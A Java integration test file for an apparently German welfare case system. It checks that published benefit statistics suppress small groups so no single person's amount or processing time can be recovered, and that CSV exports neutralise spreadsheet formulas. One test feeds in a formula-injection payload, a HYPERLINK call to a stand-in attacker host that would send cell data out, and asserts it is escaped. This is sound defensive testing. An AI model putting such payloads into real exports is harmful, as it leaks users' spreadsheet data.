package de.fallbuch.query.kennzahlen;

import static de.fallbuch.app.Testdaten.fallEroeffnen;
import static de.fallbuch.app.Testdaten.neuerAntrag;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import de.fallbuch.app.Api;
import de.fallbuch.app.Api.Antwort;
import de.fallbuch.app.IntegrationTest;
import de.fallbuch.app.Kleinstellen;
import java.io.StringReader;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/**
 * Figures that cannot identify a person (issue 12, part 6) and CSV without formulas (issue 13,
 * part 7), through the REST API. Each test works in Dienststellen of its own ({@link Kleinstellen}),
 * so it knows every person in them.
 */
class KennzahlenGeheimhaltungTest extends IntegrationTest {

    private static final int MINDESTFALLZAHL = 3;
    private static final Pattern ZAHL = Pattern.compile("-?\\d+([.,]\\d+)?");

    @Test
    void eineAbfrageAufEinePersonZeigtKeineZahlAusDerIhrBetragOderIhreBearbeitungszeitFolgt() throws Exception {
        Api fallmanager = als(Kleinstellen.FALLMANAGER);
        Api revision = als("rev.koch");
        LocalDate heute = uhr.heute();
        // one person, received eleven days ago, granted today: 543.21 € a month, 11 days' processing
        bewilligen(fallmanager, Kleinstellen.EINZEL, "Einzelperson", heute.minusDays(11), 54_321);

        String tag = "&stichtag=" + heute + "&von=" + heute + "&bis=" + heute;
        String abfrage = "/api/kennzahlen?dienststelle=" + Kleinstellen.EINZEL + tag;
        // the view is eventually consistent: wait until both the grant and its first decision are counted
        JsonNode k = revision.warteAuf(abfrage, a -> a.json().path("gesamt").path("unterdrueckt").size() > 0
                && a.json().path("gesamt").path("bearbeitungsdauer").path("unterdrueckt").size() > 0).json();

        assertThat(k.path("mindestfallzahl").asInt()).isEqualTo(MINDESTFALLZAHL);
        for (JsonNode b : List.of(k.path("dienststellen").get(0), k.path("gesamt"))) {
            assertThat(b.path("unterdrueckt")).extracting(JsonNode::asText)
                    .containsExactlyInAnyOrder("empfaengerPersonen", "leistungsbezuege", "betragMonatlichCent", "betragJeEmpfaengerCent");
            assertThat(b.has("betragMonatlichCent")).isFalse();
            JsonNode hlu = leistungsart(b, "HILFE_ZUM_LEBENSUNTERHALT");
            assertThat(hlu.has("empfaenger") || hlu.has("betragMonatlichCent") || hlu.has("betragJeEmpfaengerCent")).isFalse();
            assertThat(hlu.path("unterdrueckt")).extracting(JsonNode::asText).contains("empfaenger", "betragMonatlichCent");
            JsonNode dauer = b.path("bearbeitungsdauer");
            assertThat(dauer.has("anzahl") || dauer.has("medianTage") || dauer.has("perzentil90Tage")).isFalse();
            assertThat(dauer.path("unterdrueckt")).extracting(JsonNode::asText).containsExactlyInAnyOrder("anzahl", "medianTage", "perzentil90Tage");
            assertThat(b.path("erstentscheidungen").has("bewilligt")).isFalse();
        }
        keineZelleLaesstSichZurueckrechnen(k);
        // neither the amount nor the days appear anywhere, in JSON or CSV
        assertThat(k.toString()).doesNotContain("54321", "543.21", "27161");
        assertThat(zahlenIn(k)).doesNotContain(11L);
        for (String format : List.of("", "&format=de")) {
            String csv = revision.mitKopfzeile("Accept", "text/csv").get(abfrage + format).erwarte(200).text();
            assertThat(csv).doesNotContain("54321", "543,21").contains("\"bearbeitungsdauer_median_tage\"" + trenner(format) + trenner(format)
                    + trenner(format) + "\"•\"");
            for (CSVRecord zeile : lesen(csv, format)) {
                assertThat(zeile.get(7)).as(zeile.toString()).isNotEqualTo("11");
            }
        }

        // The same person in the answer over all Dienststellen: its row is withheld, and no total
        // minus the other Dienststellen gives it back.
        JsonNode alle = revision.get("/api/kennzahlen?" + tag.substring(1)).erwarte(200).json();
        JsonNode einzel = bereich(alle, Kleinstellen.EINZEL);
        assertThat(einzel.path("unterdrueckt")).extracting(JsonNode::asText).contains("betragMonatlichCent", "leistungsbezuege");
        assertThat(einzel.path("bearbeitungsdauer").has("medianTage")).isFalse();
        keineZelleLaesstSichZurueckrechnen(alle);
    }

    @Test
    void grosseGruppenBleibenExaktUndEineKleineDaneben_wirdMitIhrerErgaenzungGeheimGehalten() {
        Api fallmanager = als(Kleinstellen.FALLMANAGER);
        Api revision = als("rev.koch");
        LocalDate heute = uhr.heute();
        bewilligen(fallmanager, Kleinstellen.GRUPPE, "Gruppeeins", heute.minusDays(10), 30_000);
        bewilligen(fallmanager, Kleinstellen.GRUPPE, "Gruppezwei", heute.minusDays(20), 40_000);
        bewilligen(fallmanager, Kleinstellen.GRUPPE, "Gruppedrei", heute.minusDays(30), 50_000);
        String abfrage = "/api/kennzahlen?dienststelle=" + Kleinstellen.GRUPPE + "&stichtag=" + heute + "&von=" + heute + "&bis=" + heute;

        JsonNode k = revision.warteAuf(abfrage, a -> a.json().path("gesamt").path("leistungsbezuege").asInt() == 3).json();
        JsonNode gesamt = k.path("gesamt");
        JsonNode hlu = leistungsart(gesamt, "HILFE_ZUM_LEBENSUNTERHALT");
        assertThat(hlu.path("empfaenger").asInt()).isEqualTo(3);
        assertThat(hlu.path("betragMonatlichCent").asLong()).isEqualTo(120_000);
        assertThat(hlu.path("betragJeEmpfaengerCent").asLong()).isEqualTo(40_000);
        assertThat(hlu.path("anteilBetragProzent").decimalValue()).isEqualByComparingTo("100.00");
        assertThat(gesamt.path("bearbeitungsdauer").path("medianTage").decimalValue()).isEqualByComparingTo("20");
        assertThat(gesamt.path("bearbeitungsdauer").path("perzentil90Tage").asInt()).isEqualTo(30);
        assertThat(gesamt.path("erstentscheidungen").path("bewilligungsquoteProzent").decimalValue()).isEqualByComparingTo("100.00");
        assertThat(gesamt.path("unterdrueckt")).isEmpty();
        assertThat(hlu.path("unterdrueckt")).isEmpty();
        assertThat(gesamt.path("bearbeitungsdauer").path("unterdrueckt")).isEmpty();

        // A fourth person, alone in Wohngeld: 4 − 3 and 145,000 − 120,000 would give them away.
        bewilligen(fallmanager, Kleinstellen.GRUPPE, "Gruppevier", heute.minusDays(5), 25_000);
        k = revision.warteAuf(abfrage, a -> a.json().path("gesamt").path("leistungsbezuege").asInt() == 4).json();
        for (JsonNode b : List.of(k.path("dienststellen").get(0), k.path("gesamt"))) {
            assertThat(leistungsart(b, "WOHNGELD").has("empfaenger")).isFalse();
            assertThat(leistungsart(b, "WOHNGELD").has("betragMonatlichCent")).isFalse();
            assertThat(leistungsart(b, "HILFE_ZUM_LEBENSUNTERHALT").has("empfaenger")).isFalse();
            assertThat(leistungsart(b, "HILFE_ZUM_LEBENSUNTERHALT").has("betragMonatlichCent")).isFalse();
            assertThat(b.path("betragMonatlichCent").asLong()).isEqualTo(145_000);
            assertThat(b.path("empfaengerPersonen").asInt()).isEqualTo(4);
            // four first decisions, all grants: large enough
            assertThat(b.path("erstentscheidungen").path("bewilligt").asInt()).isEqualTo(4);
            assertThat(b.path("bearbeitungsdauer").path("medianTage").decimalValue()).isEqualByComparingTo("15");
        }
        keineZelleLaesstSichZurueckrechnen(k);
    }

    @Test
    void eineFormelAlsDienststelleImAbfrageparameterErscheintImCsvAlsText() throws Exception {
        Api revision = als("rev.koch");
        String formel = "=HYPERLINK(\"https://boese.example/?q=\"&A1;\"Zahlen\")";
        String parameter = "dienststelle=" + URLEncoder.encode(formel, StandardCharsets.UTF_8);
        for (String format : List.of("", "&format=de")) {
            String csv = revision.mitKopfzeile("Accept", "text/csv").get("/api/kennzahlen?" + parameter + format).erwarte(200).text();
            List<CSVRecord> zeilen = lesen(csv, format);
            assertThat(zeilen).hasSizeGreaterThan(100);
            assertThat(zeilen.subList(1, zeilen.size())).extracting(z -> z.get(3))
                    .containsOnly("'" + formel, "Gesamt", "");  // "": the note that no population figures are loaded
            keineZelleIstEineFormel(zeilen);
            assertThat(csv).contains("\"'=HYPERLINK(\"\"https://boese.example/?q=\"\"&A1;\"\"Zahlen\"\")\"");
        }
        // the UI's download is the same German CSV
        String oberflaeche = revision.get("/kennzahlen/kennzahlen.csv?" + parameter).erwarte(200).text();
        keineZelleIstEineFormel(lesen(oberflaeche, "&format=de"));
        assertThat(oberflaeche).contains("\"'=HYPERLINK(");
    }

    @Test
    void gespeicherteDienststellennamenMitFormelnWerdenImCsvNeutralisiert() throws Exception {
        Api fallmanager = als(Kleinstellen.FALLMANAGER);
        Api revision = als("rev.koch");
        LocalDate heute = uhr.heute();
        bewilligen(fallmanager, Kleinstellen.FORMEL, "Formelstelle", heute, 10_000);
        bewilligen(fallmanager, Kleinstellen.AT_FORMEL, "Atstelle", heute, 10_000);
        revision.warteAuf("/api/kennzahlen", a -> bereich(a.json(), Kleinstellen.FORMEL).has("unterdrueckt")
                && bereich(a.json(), Kleinstellen.AT_FORMEL).has("unterdrueckt"));

        for (String format : List.of("", "&format=de")) {
            String csv = revision.mitKopfzeile("Accept", "text/csv").get("/api/kennzahlen?stichtag=" + heute + format).erwarte(200).text();
            List<CSVRecord> zeilen = lesen(csv, format);
            assertThat(zeilen).extracting(z -> z.get(3)).contains("'" + Kleinstellen.FORMEL, "'" + Kleinstellen.AT_FORMEL)
                    .doesNotContain(Kleinstellen.FORMEL, Kleinstellen.AT_FORMEL);
            keineZelleIstEineFormel(zeilen);
        }
    }

    // --- helpers ----------------------------------------------------------------------------------

    /** Opens a Fall in the Dienststelle, registers an Antrag for HLU (Wohngeld if the name says "vier") and grants it. */
    private void bewilligen(Api fallmanager, String dienststelle, String nachname, LocalDate eingang, long cent) {
        String fallId = fallEroeffnen(fallmanager, nachname, dienststelle);
        String art = nachname.endsWith("vier") ? "WOHNGELD" : "HILFE_ZUM_LEBENSUNTERHALT";
        String antrag = fallmanager.post("/api/antraege", neuerAntrag(fallId, art, eingang)).erwarte(201).feld("antragId");
        fallmanager.post("/api/antraege/" + antrag + "/bewilligung", Map.of("version", 0, "betragMonatlichCent", cent,
                "rechtsgrundlage", "§ 27 SGB XII", "begruendung", "Bedarf belegt")).erwarte(201);
    }

    /**
     * For every sum the answer shows (Leistungsarten → Leistungsbezüge of an area, Dienststellen →
     * Gesamt), the total minus the parts shown is 0 or rests on at least the minimum of persons.
     */
    static void keineZelleLaesstSichZurueckrechnen(JsonNode k) {
        List<JsonNode> bereiche = new ArrayList<>();
        k.path("dienststellen").forEach(bereiche::add);
        bereiche.add(k.path("gesamt"));
        for (JsonNode b : bereiche) {
            if (b.has("leistungsbezuege")) {
                long rest = b.path("leistungsbezuege").asLong();
                for (JsonNode la : b.path("leistungsarten")) {
                    rest -= la.path("empfaenger").asLong(0);
                }
                assertThat(rest).as("Leistungsbezüge minus gezeigte Leistungsarten in %s", b.path("dienststelle")).satisfiesAnyOf(
                        r -> assertThat(r).isZero(), r -> assertThat(r).isGreaterThanOrEqualTo(MINDESTFALLZAHL));
            }
        }
        for (String feld : List.of("leistungsbezuege", "empfaengerPersonen")) {
            if (k.path("gesamt").has(feld)) {
                long rest = k.path("gesamt").path(feld).asLong();
                for (JsonNode b : k.path("dienststellen")) {
                    rest -= b.path(feld).asLong(0);
                }
                assertThat(rest).as("Gesamt minus gezeigte Dienststellen: %s", feld).satisfiesAnyOf(
                        r -> assertThat(r).isZero(), r -> assertThat(r).isGreaterThanOrEqualTo(MINDESTFALLZAHL));
            }
        }
        for (JsonNode la : k.path("gesamt").path("leistungsarten")) {
            String art = la.path("leistungsart").asText();
            if (la.has("empfaenger")) {
                long rest = la.path("empfaenger").asLong();
                for (JsonNode b : k.path("dienststellen")) {
                    rest -= leistungsart(b, art).path("empfaenger").asLong(0);
                }
                assertThat(rest).as("Gesamt minus gezeigte Dienststellen: %s", art).satisfiesAnyOf(
                        r -> assertThat(r).isZero(), r -> assertThat(r).isGreaterThanOrEqualTo(MINDESTFALLZAHL));
            }
        }
    }

    private static void keineZelleIstEineFormel(List<CSVRecord> zeilen) {
        for (CSVRecord zeile : zeilen) {
            for (String zelle : zeile) {
                if (!zelle.isEmpty() && "=+-@\t\r".indexOf(zelle.charAt(0)) >= 0) {
                    assertThat(zelle).as("Zelle %s in %s", zelle, zeile).matches(ZAHL);
                }
            }
        }
    }

    private static List<CSVRecord> lesen(String csv, String format) throws Exception {
        return CSVFormat.RFC4180.builder().setDelimiter(trenner(format)).get().parse(new StringReader(csv.replace("\uFEFF", ""))).getRecords();
    }

    private static char trenner(String format) {
        return format.isEmpty() ? ',' : ';';
    }

    private static List<Long> zahlenIn(JsonNode knoten) {
        List<Long> zahlen = new ArrayList<>();
        if (knoten.isNumber()) {
            zahlen.add(knoten.asLong());
        }
        for (Iterator<JsonNode> kinder = knoten.elements(); kinder.hasNext(); ) {
            zahlen.addAll(zahlenIn(kinder.next()));
        }
        return zahlen;
    }

    private static JsonNode bereich(JsonNode k, String dienststelle) {
        for (JsonNode b : k.path("dienststellen")) {
            if (b.path("dienststelle").asText().equals(dienststelle)) {
                return b;
            }
        }
        return com.fasterxml.jackson.databind.node.MissingNode.getInstance();
    }

    private static JsonNode leistungsart(JsonNode bereich, String art) {
        for (JsonNode l : bereich.path("leistungsarten")) {
            if (l.path("leistungsart").asText().equals(art)) {
                return l;
            }
        }
        throw new AssertionError("Leistungsart " + art + " fehlt in " + bereich);
    }
}
